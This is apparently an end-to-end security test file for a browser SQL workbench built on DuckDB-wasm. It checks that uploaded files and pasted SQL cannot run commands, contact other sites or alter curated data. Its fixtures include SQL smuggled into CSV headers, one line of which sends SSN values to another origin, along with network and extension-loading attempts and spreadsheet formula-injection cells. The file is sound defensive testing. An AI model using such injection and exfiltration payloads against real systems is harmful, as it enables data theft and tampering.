/**
 * The workbench's bounds, tried as an attacker would: hostile files and pasted SQL run nothing,
 * reach no other site (counted at the network layer and at a listening server of another origin),
 * and leave the curated figures as published, in the workbench and in the explorer.
 */
import { createServer, type Server } from 'node:http';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import type { Page } from '@playwright/test';
import { test, expect } from './fixtures';
import { allFigures, openWorkbench, ready, runSql, total } from './helpers';

const dir = mkdtempSync(join(tmpdir(), 'cifras-security-'));

/** A server on another origin (another port) that counts what reaches it. */
let other: Server;
let otherOrigin = '';
const hits: string[] = [];
test.beforeAll(async () => {
	other = createServer((req, res) => {
		hits.push(req.url ?? '');
		res.setHeader('access-control-allow-origin', '*');
		res.end('a,b\n1,2\n');
	});
	await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
	otherOrigin = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
});
test.afterAll(() => new Promise<void>((resolve) => other.close(() => resolve())));

/** Every request the page and its workers make to anywhere but the site itself. */
function foreignRequests(page: Page, site: string): string[] {
	const seen: string[] = [];
	page.context().on('request', (r) => {
		const url = r.url();
		if (!/^(data|blob):/.test(url) && new URL(url).origin !== new URL(site).origin) seen.push(url);
	});
	return seen;
}

/** Runs SQL and waits until the workbench has finished with it. */
async function runSqlToEnd(page: Page, sql: string) {
	const runs = Number(await page.locator('.workbench').getAttribute('data-runs'));
	await runSql(page, sql);
	await expect(page.locator('.workbench')).toHaveAttribute('data-runs', String(runs + 1), {
		timeout: 60_000
	});
}

/** Loads a file and waits until it is loaded or refused; returns its state and message. */
async function load(page: Page, name: string, body: string) {
	const file = join(dir, name);
	writeFileSync(file, body);
	await page.getByTestId('file-input').setInputFiles(file);
	const item = page.locator(`[data-testid="load"][data-file="${name}"]`).first();
	await expect(item).not.toHaveAttribute('data-state', 'loading', { timeout: 60_000 });
	return {
		state: await item.getAttribute('data-state'),
		message: (await item.getByTestId('load-message').textContent()) ?? ''
	};
}

/** The rows a query shows, as text cells. */
async function resultCells(page: Page): Promise<string[]> {
	await expect(page.getByTestId('sql-notice')).toContainText(/rows? in/);
	return page.locator('[data-testid="result"] tbody td').allTextContents();
}

const quoteCell = (s: string) => `"${s.replaceAll('"', '""')}"`;
const TAMPER = `x': 'VARCHAR'}); UPDATE figures SET quote = 'TAMPERED by a CSV header'; --`;

test('hostile CSV headers load as column names: nothing runs, nothing leaves, figures unchanged', async ({
	page,
	baseURL
}) => {
	const figures = await allFigures(page);
	const foreign = foreignRequests(page, baseURL!);
	await openWorkbench(page);
	await runSqlToEnd(page, `SET VARIABLE t = 'secrets'`);
	await expect(page.getByTestId('sql-notice')).toContainText(/rows? in/);
	expect((await load(page, 'secrets.csv', 'name,ssn\nAna,123-45-6789\n')).state).toBe('done');
	const exfil = `x': 'VARCHAR'}); SELECT * FROM read_text('${otherOrigin}/?' || (SELECT string_agg(ssn) FROM query_table(getvariable('t')))); --`;

	const tampered = await load(page, 'tamper.csv', `${quoteCell(TAMPER)},b\n1,2\n`);
	expect(tampered).toEqual({
		state: 'done',
		message: expect.stringMatching(/^1 row loaded from CSV in [\d.]+ s as table tamper\.$/)
	});
	const leaked = await load(page, 'exfil.csv', `${quoteCell(exfil)}\nx\n`);
	expect(leaked.state).toBe('done');
	const share = await load(page, 'shares.csv', "country,Children's share\nMexico,0.4\n");
	expect(share.state).toBe('done');

	// Each header is a column, found by its exact name.
	await runSqlToEnd(page, `SELECT ${quoteCell(TAMPER)} FROM tamper`);
	expect(await resultCells(page)).toEqual(['1']);
	await runSqlToEnd(page, `SELECT "Children's share" FROM shares`);
	expect(await resultCells(page)).toEqual(['0.4']);
	const schema = page.getByTestId('schema');
	await expect(schema.locator('[data-table="tamper"] dt code').first()).toHaveText(TAMPER);

	// The curated quotes are as published.
	await runSqlToEnd(page, `SELECT count(*) AS n FROM figures WHERE quote LIKE 'TAMPERED%'`);
	expect(await resultCells(page)).toEqual(['0']);
	await runSqlToEnd(page, `SELECT count(DISTINCT quote) AS n FROM figures`);
	expect(await resultCells(page)).toEqual([String(new Set(figures.map((f) => f.quote)).size)]);
	expect(foreign).toEqual([]);
	expect(hits).toEqual([]);
});

test('pasted SQL reaches no other site and cannot unlock the database', async ({
	page,
	baseURL
}) => {
	const foreign = foreignRequests(page, baseURL!);
	await openWorkbench(page);
	const attempts: [string, RegExp][] = [
		[`SELECT * FROM read_text('${otherOrigin}/a')`, /never reaches the network/],
		[`SELECT * FROM read_csv('${otherOrigin}/b.csv')`, /never reaches the network/],
		[`ATTACH '${otherOrigin}/c.db' AS c`, /never reaches the network/],
		[`COPY (SELECT 1 AS a) TO '${otherOrigin}/d.csv'`, /never reaches the network/],
		[`COPY (SELECT 1 AS a) TO '/tmp/cifras-e.csv'`, /never reaches the network/],
		[`LOAD httpfs`, /Extensions cannot be loaded here/],
		[`SET enable_external_access = true`, /locked in this page/],
		[`SET custom_extension_repository = '${otherOrigin}/'`, /locked in this page/],
		[`SET allowed_directories = ['/']`, /locked in this page/]
	];
	for (const [sql, help] of attempts) {
		await runSqlToEnd(page, sql);
		await expect(page.getByTestId('sql-error-help'), sql).toHaveText(help);
	}
	// INSTALL is accepted by DuckDB-wasm and does nothing: no request, and LOAD still refuses.
	await runSqlToEnd(page, `INSTALL httpfs FROM '${otherOrigin}/'`);
	await runSqlToEnd(page, `LOAD httpfs`);
	await expect(page.getByTestId('sql-error-help')).toHaveText(/Extensions cannot be loaded/);
	await runSqlToEnd(page, 'SELECT 40 + 2 AS answer');
	expect(await resultCells(page)).toEqual(['42']);
	expect(foreign).toEqual([]);
	expect(hits).toEqual([]);
});

test('the curated tables are read-only to the workbench, and the explorer never shows a changed figure', async ({
	page
}) => {
	const figures = await allFigures(page);
	await openWorkbench(page);
	await runSqlToEnd(page, `UPDATE figures SET quote = 'changed'`);
	await expect(page.getByTestId('sql-error')).toContainText('read-only');
	await expect(page.getByTestId('sql-error-help')).toContainText(
		'CREATE TABLE my_figures AS FROM figures'
	);
	await runSqlToEnd(page, `DROP TABLE figures`);
	await expect(page.getByTestId('sql-error')).toBeVisible();
	await expect(page.getByTestId('curated-changed')).toHaveCount(0);

	// Re-attaching the file read-write is the one way to change it: the workbench says so.
	await runSqlToEnd(
		page,
		`DETACH curated; ATTACH '/cifras/curated.duckdb' AS curated; UPDATE curated.figures SET quote = 'changed'; SELECT 1`
	);
	await expect(page.getByTestId('curated-changed')).toBeVisible();

	// The explorer's figures are its own: every quote as published.
	await page.getByRole('link', { name: 'Explorer', exact: true }).first().click();
	await ready(page);
	expect(await total(page)).toBe(figures.length);
	const quotes = await page.locator('[data-testid="figure-table"] tbody tr').allTextContents();
	expect(quotes.length).toBeGreaterThan(0);
	expect(quotes.filter((q) => q.includes('changed'))).toEqual([]);
});

test('files named like the workbench’s own tables get other names, with a notice', async ({
	page
}) => {
	await openWorkbench(page);
	for (const name of ['explorer_figures', 'cifras_result', 'figures']) {
		const loaded = await load(page, `${name}.csv`, 'a\n1\n');
		expect(loaded.message).toContain(`as table ${name}_2.`);
		expect(loaded.message).toContain(`${name} is a name the workbench uses itself`);
	}
	await runSqlToEnd(page, 'SELECT 5 AS a');
	await resultCells(page);
	await runSqlToEnd(page, 'SELECT a FROM cifras_result_2');
	expect(await resultCells(page)).toEqual(['1']);
	// A table ending in _cube is an ordinary table, listed like any other.
	expect((await load(page, 'rates_cube.csv', 'a\n1\n')).message).toContain('as table rates_cube.');
	await expect(page.locator('[data-table="rates_cube"]')).toHaveCount(1);
});

test('files with mixed or old line endings, long cells and awkward JSON load, or say why not', async ({
	page
}) => {
	await openWorkbench(page);
	const mixed = await load(page, 'mixed.csv', 'a,b\r\n1,2\n3,4\r\n');
	expect(mixed.message).toMatch(/^2 rows loaded/);
	const cr = await load(page, 'old-mac.csv', 'a,b\r1,2\r3,4\r');
	expect(cr.message).toMatch(/^2 rows loaded/);
	const long = await load(page, 'long-cell.csv', `a,b\n1,"${'x'.repeat(5_000_000)}"\n2,y\n`);
	expect(long.message).toMatch(/^2 rows loaded/);
	const kinds = await load(page, 'kinds.json', JSON.stringify([{ a: 1 }, { a: 'two' }]));
	expect(kinds.message).toMatch(
		/^2 rows loaded .* Column “a” holds numbers and text, so it was loaded as text\.$/
	);
	const nested = await load(page, 'deep.json', `[{"a": ${'['.repeat(5000)}1${']'.repeat(5000)}}]`);
	expect(nested).toEqual({
		state: 'failed',
		message: expect.stringMatching(
			/^“deep\.json” nests values (more than 64 levels deep|too deeply)/
		)
	});
	const ragged = await load(page, 'ragged.csv', 'a,b\r\n1,2\n3\r\n');
	expect(ragged.message).toMatch(/“ragged\.csv” has ragged rows: line 3 has 1 field/);
	expect(ragged.message).not.toMatch(/upload-/);
});

test('CSV exports neutralise formulas in text and keep numbers; a million rows export with progress, and can be cancelled', async ({
	page
}) => {
	test.setTimeout(180_000);
	await openWorkbench(page);
	const cells = ['=HYPERLINK("http://x","y")', '+1+2', '-3', '@SUM(A1)', '\tx', 'plain'];
	const rows = cells.map((c, i) => `${i},${quoteCell(c)},${-i}`).join('\n');
	expect((await load(page, 'hostile.csv', `id,text,n\n${rows}\n`)).state).toBe('done');
	await runSqlToEnd(page, 'SELECT * FROM hostile ORDER BY id');
	await resultCells(page);
	const [download] = await Promise.all([
		page.waitForEvent('download'),
		page.getByTestId('export-csv').click()
	]);
	const path = (await download.path())!;
	// Read back by a strict CSV reader: every record well formed.
	const db = await (await DuckDBInstance.create(':memory:')).connect();
	const back = (
		await db.runAndReadAll(
			`SELECT * FROM read_csv('${path}', strict_mode = true, all_varchar = true, header = true)`
		)
	).getRowObjectsJS();
	expect(back.map((r) => r.text)).toEqual([
		`'=HYPERLINK("http://x","y")`,
		"'+1+2",
		"'-3",
		"'@SUM(A1)",
		"'\tx",
		'plain'
	]);
	// Numbers are numbers, negative ones too.
	expect(back.map((r) => r.n)).toEqual(['0', '-1', '-2', '-3', '-4', '-5']);
	expect(readFileSync(path, 'utf8')).not.toMatch(/(^|,)=HYPERLINK/m);

	// A million rows: written a chunk at a time, with progress, and the page answers meanwhile.
	await runSqlToEnd(page, 'SELECT i, i::VARCHAR AS s FROM range(1000000) t(i)');
	await expect(page.getByTestId('sql-notice')).toContainText('1,000,000 rows in', {
		timeout: 60_000
	});
	// The page paints between chunks: the status it showed is kept as it changed.
	await page.evaluate(() => {
		const w = window as unknown as { shown: string[] };
		w.shown = [];
		const status = document.querySelector('[data-testid="export-status"]')!;
		new MutationObserver(() => w.shown.push(status.textContent ?? '')).observe(status, {
			childList: true,
			characterData: true,
			subtree: true
		});
	});
	const [big] = await Promise.all([
		page.waitForEvent('download', { timeout: 120_000 }),
		page.getByTestId('export-csv').click(),
		expect(page.getByTestId('export-progress')).toBeVisible()
	]);
	await expect(page.getByTestId('export-status')).toHaveText('Downloaded 1,000,000 rows as CSV.');
	const text = readFileSync((await big.path())!, 'utf8');
	expect(text.split('\r\n')).toHaveLength(1_000_002);
	const shown = await page.evaluate(() => (window as unknown as { shown: string[] }).shown);
	const partway = shown
		.map((s) => /^Writing CSV: ([\d,]+) of 1,000,000 rows…$/.exec(s)?.[1])
		.filter(Boolean)
		.map((n) => Number(n!.replaceAll(',', '')));
	expect(partway.some((n) => n > 0 && n < 1_000_000)).toBe(true);

	// Cancelled, nothing is downloaded.
	await page.getByTestId('export-json').click();
	await page.getByTestId('export-cancel').click();
	await expect(page.getByTestId('export-status')).toHaveText(
		'JSON export cancelled; nothing was downloaded.'
	);
});

test('only embeds may be framed by other sites', async ({ page }) => {
	const home = await page.request.get('/');
	expect(home.headers()['content-security-policy']).toBe("frame-ancestors 'self'");
	expect(home.headers()['x-frame-options']).toBe('SAMEORIGIN');
	const sql = await page.request.get('/sql');
	expect(sql.headers()['content-security-policy']).toBe("frame-ancestors 'self'");
	const embed = await page.request.get('/embed/topic');
	expect(embed.headers()['content-security-policy']).toBeUndefined();
	expect(embed.headers()['x-frame-options']).toBeUndefined();
});

test('after the synthetic bench page, the workbench holds the curated figures only', async ({
	page
}) => {
	const figures = await allFigures(page);
	await page.goto('/?synthetic=500');
	await expect(page.getByTestId('synthetic-notice')).toBeVisible();
	await page.locator('html[data-hydrated]').waitFor();
	await page.getByRole('link', { name: 'SQL', exact: true }).click();
	await expect(page.getByTestId('sql-engine')).toHaveAttribute('data-state', 'ready', {
		timeout: 30_000
	});
	await runSqlToEnd(
		page,
		`SELECT count(*) AS n, count(*) FILTER (figure_id LIKE 'syn-%') AS s FROM figures`
	);
	expect(await resultCells(page)).toEqual([String(figures.length), '0']);
});
